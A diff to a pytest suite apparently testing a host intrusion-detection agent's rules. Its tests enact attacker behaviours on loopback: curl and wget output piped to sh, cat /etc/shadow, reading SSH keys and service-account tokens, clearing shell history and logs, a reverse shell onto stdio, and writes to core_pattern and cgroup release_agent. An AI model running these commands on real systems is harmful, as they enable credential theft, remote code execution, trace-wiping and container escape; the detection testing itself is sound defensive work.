@@ -8,26 +8,26 @@ Attacker tools are tests/behaviours/nwbehave.c (one syscall-level behaviour per 
 static), copies of it under other names (the rules key on program names, as Falco's do), and
 ordinary commands. Network behaviour stays on loopback. Everything a behaviour changes is put back.
 
-53 behaviours for 31 rules: files (18): write, rename and chmod below /etc; write below /usr/lib and
+57 behaviours for 31 rules: files (18): write, rename and chmod below /etc; write below /usr/lib and
 /root; shell history truncated by cp and by sh, deleted, symlinked to /dev/null; setuid and setgid
 bits (chmod u+s, g+s, a stat() mode); cron.d written and renamed into; a systemd timer;
 authorized_keys; .bashrc, .profile. Processes (5): exec from /dev/shm, /tmp and /var/tmp (the last
 two with nw.exec_from_tmp_on_host enabled), network tools, a miner command line. Network (2):
 stratum port, interpreter listening. Credentials (7): /etc/shadow, an SSH private key, AWS
 credentials, the service-account token by /var/run and /run, grep -r id_rsa, find -name *.pem.
-Privilege and evasion (11): fileless exec from a memfd, setuid(0) by a non-root caller, capset
+Privilege and evasion (12): fileless exec from a memfd, setuid(0) by a non-root caller, capset
 raising CAP_SYS_ADMIN as nobody, useradd / usermod / chpasswd / passwd USER, a log under /var/log
 truncated and removed, symlinks to /etc/shadow and /proc/1/root and a hard link to /etc/passwd.
-Escape (2): release_agent and notify_on_release of a cgroup v1 hierarchy. Execution (2): a shell run
-by nginx, `curl ... | sh`. Tracing (3): PTRACE_ATTACH, PTRACE_SEIZE, PTRACE_TRACEME. Sockets (3):
+Escape (3): core_pattern (and the modprobe path where the kernel has one), release_agent and
+notify_on_release of a cgroup v1 hierarchy. Execution (3): a shell run by nginx, `curl ... | sh`,
+`wget -qO- ... | sh; echo done`. Tracing (3): PTRACE_ATTACH, PTRACE_SEIZE, PTRACE_TRACEME. Sockets (3):
 packet socket, raw socket, reverse shell (a socket dup'ed onto stdio). Kernel (1): a BPF program load.
 
 Not here: the container-scoped rules (mounts, namespaces, unexpected UDP, drifted binaries,
 interactive shells, remote copy tools, package managers, cloud metadata, module loads from a
 container: tests/e2e/test_detect_containers.py; on the host their look-alikes must stay quiet, tested
-below), the host module-load rule (this kernel has no init_module/finit_module: CONFIG_MODULES off),
-and core_pattern and the other /proc and /sys escape hooks (the file probe's default ignore prefixes
-drop writes there).
+below), and the host module-load rule (this kernel has no init_module/finit_module: CONFIG_MODULES
+off, so no behaviour can reach it here).
 """
 
 from __future__ import annotations
@@ -46,6 +46,9 @@ from tests.behaviours.build import build
 from tests.kernel.conftest import AgentProcess
 
 TAG = f"nwdet-{uuid.uuid4().hex[:8]}"
+# Seconds to wait for a record: the agent sees the whole machine, and on a loaded one (a parallel build,
+# other agents) it can fall seconds behind without losing anything.
+WAIT = 30.0
 
 
 @pytest.fixture(scope="module")
@@ -68,20 +71,20 @@ def scratch():
             os.unlink(p)
 
 
-def _alerts(agent, argv: list[str]) -> list[dict]:
+def _alerts(agent, argv: list[str], stdin: str | None = None) -> list[dict]:
     """Run argv to its end; the alerts raised by it and its children (its exit record follows them).
 
     The process is found by the pid it prints (a python snippet's last word, nwbehave's first line
     `pid N`), else by its exec record's command line."""
     cmd = " ".join(argv)
     seen = len(agent.find(_exec_of(cmd)))  # the same command may have run before: take the new one
-    p = subprocess.run(argv, capture_output=True, text=True, timeout=30)
+    p = subprocess.run(argv, capture_output=True, text=True, timeout=30, input=stdin)
     assert p.returncode == 0, p.stderr
     if argv[0] == PY:
         return _after_exit(agent, int(p.stdout.split()[-1]))
     if p.stdout.startswith("pid "):
         return _after_exit(agent, int(p.stdout.split()[1]))
-    return _after_exit(agent, agent.wait_for(_exec_of(cmd), count=seen + 1)[-1]["process.pid"])
+    return _after_exit(agent, agent.wait_for(_exec_of(cmd), WAIT, count=seen + 1)[-1]["process.pid"])
 
 
 def _exec_of(cmd: str):
@@ -89,10 +92,19 @@ def _exec_of(cmd: str):
 
 
 def _after_exit(agent, pid: int) -> list[dict]:
-    agent.wait_for(lambda r: r["event.name"] == "process.exit" and r["process.pid"] == pid)
+    agent.wait_for(lambda r: r["event.name"] == "process.exit" and r["process.pid"] == pid, WAIT)
     _barrier(agent)
-    return agent.find(lambda r: r["event.name"] == "alert" and (r["process.pid"] == pid
-                                                                 or r.get("process.parent_pid") == pid))
+    found = Alerts(agent.find(lambda r: r["event.name"] == "alert" and (r["process.pid"] == pid
+                                                                       or r.get("process.parent_pid") == pid)))
+    found.drops = [r["agent.drops.new"] for r in agent.find(lambda r: r["event.name"] == "agent.drops")]
+    return found
+
+
+class Alerts(list):
+    """The alerts of one behaviour, with what the agent said it lost so far (a missing alert under load
+    may be a lost event: the assertion message says which)."""
+
+    drops: list[dict] = []
 
 
 _BARRIERS = iter(range(1, 1 << 30))
@@ -120,9 +132,9 @@ def _barrier(agent) -> None:
         pass
     finally:
         s.close()
-    agent.wait_for(lambda r: r["event.name"] == "system.memfd_create" and r.get("memfd.name") == memfd)
-    agent.wait_for(lambda r: r["event.name"] == "file.unlink" and r.get("file.path") == mark)
-    agent.wait_for(connect, count=seen + 1)
+    agent.wait_for(lambda r: r["event.name"] == "system.memfd_create" and r.get("memfd.name") == memfd, WAIT)
+    agent.wait_for(lambda r: r["event.name"] == "file.unlink" and r.get("file.path") == mark, WAIT)
+    agent.wait_for(connect, WAIT, count=seen + 1)
 
 
 # The system interpreter (Debian's python3, which scripts/setup.sh installs), not the venv's: a checkout
@@ -166,12 +178,17 @@ def _bundled() -> list[str]:
     return [r.id for r in default_section()[0].ruleset.rules if r.enabled]  # not those off by default
 
 
-def _one(alerts: list[dict], rule: str, severity: str, technique: str) -> dict:
-    assert [a["rule.id"] for a in alerts] == [rule], [(a["rule.id"], a.get("alert.output")) for a in alerts]
+def _one(alerts: list[dict], rule: str, severity: str, technique: str, via: tuple[str, ...] | None = ()) -> dict:
+    """The one alert of `rule`, with its severity, technique and ancestry: `via` (the processes the test
+    put between itself and the behaviour), then this test's own chain; None: an orphan, not checked."""
+    assert [a["rule.id"] for a in alerts] == [rule], ([(a["rule.id"], a.get("alert.output")) for a in alerts],
+                                                      "agent drops:", getattr(alerts, "drops", None))
     a = alerts[0]
     assert a["event.severity"] == severity
     assert technique in a["threat.technique.id"]
     assert a["threat.tactic.name"] and a["rule.name"] and a["rule.description"]
+    if via is not None:
+        _ancestry(a, *via)
     return a
 
 
@@ -229,9 +246,10 @@ def _ancestry(alert: dict, *via: str) -> None:
     """The alert names its ancestry, parent first: the processes the test put in between (`via`), then
     this test process and its own ancestors (cut where the agent's ancestry_max cuts)."""
     names = alert["process.ancestors.name"]
-    want = [*via, *_my_chain()]
-    assert len(names) >= min(len(want), len(via) + 2), names
-    assert names == want[:len(names)], (names, want)
+    # three of this test's own: further up, a shell that started this test may have exited since, and the
+    # agent keeps the lineage as it was at fork while /proc shows the reparented process
+    want = [*via, *_my_chain()][:len(via) + 3]
+    assert names[:len(want)] == want, (names, want)
 
 
 _DETACH = """
@@ -309,12 +327,12 @@ def test_shell_history_truncated_or_deleted(agent, scratch):
     a = _one(_alerts(agent, ["/bin/cp", "/dev/null", f"{h}/.bash_history"]), "nw.clear_shell_history", "high",
              "T1070.003")  # cp opens its target with O_TRUNC (truncate(1) calls ftruncate instead)
     assert a["file.path"] == f"{h}/.bash_history"
-    _ancestry(a)
-    # dash keeps no .bash_history: its truncating one is the attack
+    # a shell running -c keeps no history: its truncating one is an exploit's payload
     _one(_alerts(agent, _sh(f": > {h}/.bash_history")), "nw.clear_shell_history", "high", "T1070.003")
-    # look-alike: bash truncating its own history is what it does at exit and on `history -w`; by choice
-    # not flagged (the rule's description says so), though `: > ~/.bash_history` typed in bash looks the same
-    assert _alerts(agent, ["/bin/bash", "-c", f": > {h}/.bash_history; :"]) == []
+    # look-alike: bash reading its commands (not -c) truncating its own history is what it does at exit and
+    # on `history -w`; by choice not flagged (the rule's description says so), though `: > ~/.bash_history`
+    # typed at its prompt looks the same
+    assert _alerts(agent, ["/bin/bash", "--norc", "-s"], stdin=f": > {h}/.bash_history\n") == []
     a = _one(_alerts(agent, ["/bin/rm", f"{h}/.bash_history"]), "nw.clear_shell_history", "high", "T1070.003")
     assert a["trigger.name"] == "file.unlink"
     a = _one(_alerts(agent, ["/bin/ln", "-sf", "/dev/null", f"{h}/.bash_history"]), "nw.clear_shell_history",
@@ -393,8 +411,7 @@ def test_exec_from_dev_shm(agent, scratch):
             continue
         f = _drop(scratch, d)
         a = _one(_alerts(agent, [f, "--beacon"]), "nw.exec_from_writable_dir", "high", "T1059")
-        assert a["process.executable.path"] == f
-        _ancestry(a)  # memory-backed: flagged whoever runs it, a build as well
+        assert a["process.executable.path"] == f  # memory-backed: flagged whoever runs it, a build as well
     # look-alikes: on a host /tmp and /var/tmp belong to nw.exec_from_tmp_on_host, off by default
     # (CI checkouts, venvs and builds run programs from there all day); /tmp in an argument only
     for d in ("/tmp", "/var/tmp"):
@@ -410,9 +427,11 @@ def test_exec_from_tmp_on_host_when_enabled(tmp_path, scratch, nwb):
         for d in ("/tmp", "/var/tmp"):
             f = _drop(scratch, d)
             # orphaned: under `make test` a build tool is among this test's ancestors, which exempts it
-            al = _one(_alerts(a, _detached([f, "--beacon"])), "nw.exec_from_tmp_on_host", "medium", "T1059")
+            al = _one(_alerts(a, _detached([f, "--beacon"])), "nw.exec_from_tmp_on_host", "medium", "T1059",
+                      via=None)
             assert al["process.executable.path"] == f
-            assert not set(al["process.ancestors.name"]) & {"make", "python"}  # reparented before its exec
+            # reparented before its exec (to init, which may be all its ancestry): not this test's chain
+            assert not set(al.get("process.ancestors.name", ())) & {"make", "python"}
         # look-alike: a build (make here) running what it built in /tmp
         assert _alerts(a, [_as(nwb, "make"), "spawn", _drop(scratch, "/tmp")]) == []
     finally:
@@ -510,7 +529,6 @@ def _write(path: str, text: str, mode: int = 0o600) -> str:
 def test_shadow_read(agent, nwb):
     a = _one(_alerts(agent, ["/bin/cat", "/etc/shadow"]), "nw.sensitive_file_read", "high", "T1003.008")
     assert (a["trigger.name"], a["file.path"]) == ("file.open", "/etc/shadow")
-    _ancestry(a)
     assert _alerts(agent, ["/bin/cat", "/etc/passwd"]) == []
     assert _alerts(agent, [_as(nwb, "sshd", "/bin/cat"), "/etc/shadow"]) == []  # an auth daemon: its job
 
@@ -521,7 +539,6 @@ def test_private_key_and_cloud_credentials_read(agent, nwb, scratch, made):
     _write(f"{ssh}/id_ed25519.pub", "ssh-ed25519 AAAA x\n", 0o644)
     a = _one(_alerts(agent, ["/bin/cat", key]), "nw.sensitive_file_read", "high", "T1552.004")
     assert a["file.path"] == key
-    _ancestry(a)
     assert _alerts(agent, ["/bin/cat", f"{ssh}/id_ed25519.pub"]) == []  # the public half
     assert _alerts(agent, [_as(nwb, "ssh-add", "/bin/cat"), key]) == []  # the client that uses keys
     if os.path.exists("/root/.aws"):
@@ -540,7 +557,6 @@ def test_service_account_token_read(agent, nwb, made):
     for path in (token, token.replace("/var/run/", "/run/")):
         a = _one(_alerts(agent, ["/bin/cat", path]), "nw.sa_token_read", "medium", "T1528")
         assert a["file.path"] == path
-        _ancestry(a)
     assert _alerts(agent, [_as(nwb, "kubectl", "/bin/cat"), token]) == []
 
 
@@ -552,7 +568,6 @@ def test_search_for_secrets(agent, scratch):
     _write(f"{d}/a.pem", "x\n", 0o644)
     a = _one(_alerts(agent, ["/bin/grep", "-r", "id_rsa", d]), "nw.search_for_secrets", "medium", "T1552.001")
     assert a["process.name"] == "grep"
-    _ancestry(a)
     _one(_alerts(agent, ["/usr/bin/find", d, "-name", "*.pem"]), "nw.search_for_secrets", "medium", "T1552.001")
     assert _alerts(agent, ["/bin/grep", "-r", "hello", d]) == []
     assert _alerts(agent, ["/usr/bin/find", d, "-name", "*.txt"]) == []
@@ -564,14 +579,12 @@ def test_search_for_secrets(agent, scratch):
 def test_fileless_exec(agent, nwb):
     a = _one(_alerts(agent, [nwb, "memfd-exec"]), "nw.fileless_exec", "critical", "T1620")
     assert a["process.executable.memfd"] is True and a["trigger.name"] == "process.exec"
-    _ancestry(a)  # the exec keeps the pid: its parent is this test
     assert _alerts(agent, [nwb, "memfd-noexec"]) == []  # a memfd filled, never run
 
 
 def test_setuid_to_root(agent, nwb):
     a = _one(_alerts(agent, [nwb, "setuid-root"]), "nw.setuid_to_root", "high", "T1548")
     assert (a["user.id"], a["setid.effective"], a["syscall.return"]) == (65534, 0, 0)
-    _ancestry(a)
     assert _alerts(agent, [nwb, "setuid-drop"]) == []  # root dropping to nobody
     assert _alerts(agent, [_as(nwb, "sudo"), "setuid-root"]) == []  # a setuid program whose job it is
 
@@ -580,7 +593,6 @@ def test_capset_raise(agent, nwb):
     a = _one(_alerts(agent, [nwb, "capset"]), "nw.capset_raise", "medium", "T1548")
     assert a["user.id"] == 65534
     assert a["capabilities.effective"] & (1 << 21)  # CAP_SYS_ADMIN
-    _ancestry(a)
     assert _alerts(agent, [nwb, "capset-bind"]) == []  # nobody keeping only CAP_NET_BIND_SERVICE
 
 
@@ -589,7 +601,6 @@ def test_user_management(agent, nwb):
         a = _one(_alerts(agent, [_as(nwb, name, "/bin/true"), "-m", f"{TAG}-eve"]), "nw.user_management",
                  "medium", "T1136.001")
         assert a["process.name"] == name
-        _ancestry(a)
     passwd = _as(nwb, "passwd", "/bin/true")
     _one(_alerts(agent, [passwd, f"{TAG}-eve"]), "nw.user_management", "medium", "T1136.001")
     assert _alerts(agent, [passwd]) == []  # changing one's own password
@@ -606,7 +617,6 @@ def test_log_cleared(agent, nwb, scratch):
     _write(log + ".1", "old\n", 0o644)
     a = _one(_alerts(agent, _sh(f": > {log}")), "nw.log_cleared", "high", "T1070.002")
     assert (a["trigger.name"], a["file.path"]) == ("file.open", log)
-    _ancestry(a)
     assert _alerts(agent, _sh(f"echo more >> {log}")) == []  # appending: what loggers do
     assert _alerts(agent, [nwb, "truncate", log + ".1"]) == []  # a rotated file
     assert _alerts(agent, [_as(nwb, "logrotate"), "truncate", log]) == []
@@ -621,7 +631,6 @@ def test_link_to_sensitive_file(agent, nwb, scratch):
     a = _one(_alerts(agent, ["/bin/ln", "-s", "/etc/shadow", f"{d}/s"]), "nw.link_to_sensitive_file", "high",
              "T1222")
     assert (a["trigger.name"], a["file.path"], a["file.link.target"]) == ("file.symlink", f"{d}/s", "/etc/shadow")
-    _ancestry(a)
     a = _one(_alerts(agent, [nwb, "hardlink", "/etc/passwd", f"{d}/p"]), "nw.link_to_sensitive_file", "high",
              "T1222")
     assert (a["trigger.name"], a["file.link.target"]) == ("file.link", "/etc/passwd")
@@ -631,10 +640,21 @@ def test_link_to_sensitive_file(agent, nwb, scratch):
     assert _alerts(agent, [nwb, "hardlink", f"{d}/plain", f"{d}/plain2"]) == []
 
 
+def test_container_escape_write_to_kernel_hooks(agent, nwb):
+    """core_pattern and the modprobe path opened for writing and closed unwritten (nwbehave write): the
+    kernel's settings stay as they were. probes.watch_writes reports them below the ignored /proc/."""
+    for hook in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe"):
+        if not os.path.exists(hook):
+            continue  # /proc/sys/kernel/modprobe exists only with CONFIG_MODULES
+        a = _one(_alerts(agent, [nwb, "write", hook]), "nw.container_escape_write", "critical", "T1611")
+        assert (a["trigger.name"], a["file.path"]) == ("file.open", hook)
+    assert _alerts(agent, [nwb, "read", "/proc/sys/kernel/core_pattern"]) == []  # reading it is harmless
+    assert _alerts(agent, [nwb, "write", "/proc/sys/kernel/domainname"]) == []  # a sysctl, not a hook
+
+
 def test_container_escape_write(agent, nwb, scratch):
     """A release_agent of a cgroup v1 hierarchy mounted by the test (the classic escape mounts one), opened
-    for writing and closed unwritten: the kernel's hooks stay as they were. /proc/sys/kernel/core_pattern is
-    not used: the file probe's default ignore prefixes (/proc/, /sys/) hide writes there."""
+    for writing and closed unwritten: the kernel's hooks stay as they were."""
     d = f"/run/{TAG}-cg-{uuid.uuid4().hex[:6]}"
     os.makedirs(d)
     scratch.append(d)
@@ -644,7 +664,6 @@ def test_container_escape_write(agent, nwb, scratch):
         a = _one(_alerts(agent, [nwb, "write", f"{d}/release_agent"]), "nw.container_escape_write", "critical",
                  "T1611")
         assert (a["trigger.name"], a["file.path"]) == ("file.open", f"{d}/release_agent")
-        _ancestry(a)
         _one(_alerts(agent, [nwb, "write", f"{d}/notify_on_release"]), "nw.container_escape_write", "critical",
              "T1611")
         assert _alerts(agent, [nwb, "write", f"{d}/cgroup.clone_children"]) == []
@@ -657,9 +676,8 @@ def test_container_escape_write(agent, nwb, scratch):
 
 def test_shell_from_a_server(agent, nwb):
     a = _one(_alerts(agent, [_as(nwb, "nginx"), "spawn", "/bin/sh", "-c", "echo hi"]), "nw.shell_from_server",
-             "high", "T1505.003")
+             "high", "T1505.003", via=("nginx",))  # the shell's parent: the "server"
     assert a["process.name"] == "sh"
-    _ancestry(a, "nginx")
     assert a["process.ancestors.executable.path"][0] == os.path.join(os.path.dirname(nwb), "nginx")
     assert _alerts(agent, [_as(nwb, "myapp"), "spawn", "/bin/sh", "-c", "echo hi"]) == []
 
@@ -669,8 +687,11 @@ def test_download_piped_to_shell(agent):
     a = _one(_alerts(agent, ["/bin/sh", "-c", "curl -fsS http://127.0.0.1:9/i.sh | sh"]),
              "nw.download_piped_to_shell", "high", "T1105")
     assert a["process.command_line"] == "/bin/sh -c curl -fsS http://127.0.0.1:9/i.sh | sh"
-    _ancestry(a)
+    # and with more after it, as an exploit's payload has
+    _one(_alerts(agent, ["/bin/sh", "-c", "wget -qO- http://127.0.0.1:9/i.sh | sh; echo done"]),
+         "nw.download_piped_to_shell", "high", "T1105")
     assert _alerts(agent, ["/bin/sh", "-c", "curl -fsS http://127.0.0.1:9/i.sh | grep -c x; :"]) == []
+    assert _alerts(agent, ["/bin/sh", "-c", "curl -fsS -o /dev/null http://127.0.0.1:9/shell.sh; :"]) == []
 
 
 # -- processes tracing each other ------------------------------------------------------------------------
@@ -679,7 +700,6 @@ def test_download_piped_to_shell(agent):
 def test_ptrace_attach(agent, nwb):
     a = _one(_alerts(agent, [nwb, "ptrace-attach"]), "nw.ptrace_attach", "high", "T1055.008")
     assert a["ptrace.request"] == 16 and a["target.pid"] > 0  # PTRACE_ATTACH to its own child
-    _ancestry(a)
     a = _one(_alerts(agent, [nwb, "ptrace-seize"]), "nw.ptrace_attach", "high", "T1055.008")
     assert a["ptrace.request"] == 0x4206
     assert _alerts(agent, [_as(nwb, "gdb"), "ptrace-attach"]) == []  # a debugger
@@ -689,7 +709,6 @@ def test_ptrace_attach(agent, nwb):
 def test_ptrace_anti_debug(agent, nwb):
     a = _one(_alerts(agent, [nwb, "ptrace-traceme"]), "nw.ptrace_anti_debug", "medium", "T1622")
     assert a["ptrace.request"] == 0
-    _ancestry(a)
     # a debugger's child asks to be traced: how gdb and strace start their target
     assert _alerts(agent, [_as(nwb, "gdb"), "spawn", nwb, "ptrace-traceme"]) == []
 
@@ -700,7 +719,6 @@ def test_ptrace_anti_debug(agent, nwb):
 def test_packet_and_raw_sockets(agent, nwb):
     a = _one(_alerts(agent, [nwb, "packet-socket"]), "nw.packet_socket", "medium", "T1040")
     assert a["network.type"] == "packet"
-    _ancestry(a)
     a = _one(_alerts(agent, [nwb, "raw-socket"]), "nw.packet_socket", "medium", "T1040")
     assert a["network.transport"] == "raw"
     assert _alerts(agent, [nwb, "tcp-socket"]) == [] and _alerts(agent, [nwb, "udp-socket"]) == []
@@ -726,15 +744,10 @@ def test_reverse_shell(agent, nwb):
             t.join(10)
 
     try:
-        alerts = run("reverse-shell")
-        # dup2 onto 0, 1 and 2: while the rule's output names the fd the three are distinct alerts (no
-        # folding); once it does not, they fold into one. Either way each is the rule's, one per stdio fd.
-        assert sorted(x["network.dup.new_fd"] for x in alerts) in ([0], [0, 1, 2]), alerts
-        a = _one(alerts[:1], "nw.reverse_shell", "critical", "T1059.004")
-        assert {x["rule.id"] for x in alerts} == {"nw.reverse_shell"}
+        # dup2 onto 0, 1 and 2: the first raises the alert, the other two fold into it
+        a = _one(run("reverse-shell"), "nw.reverse_shell", "critical", "T1059.004")
         assert (a["network.peer.address"], a["network.peer.port"]) == ("127.0.0.1", port)
-        assert a["trigger.name"] == "network.dup"
-        _ancestry(a)
+        assert (a["trigger.name"], a["network.dup.new_fd"]) == ("network.dup", 0)
         assert got == [b"hi\n"]  # the shell ran on the socket
         assert run("dup-socket-high") == []  # a socket onto fd 10, not stdio
     finally:
@@ -748,7 +761,6 @@ def test_reverse_shell(agent, nwb):
 def test_bpf_program_load(agent, nwb):
     a = _one(_alerts(agent, [nwb, "bpf-load"]), "nw.bpf_program_load", "medium", "T1014")
     assert (a["bpf.program.name"], a["bpf.program.type"]) == ("nwbehave", 1)  # BPF_PROG_TYPE_SOCKET_FILTER
-    _ancestry(a)
     assert _alerts(agent, [_as(nwb, "bpftool"), "bpf-load"]) == []
 
 
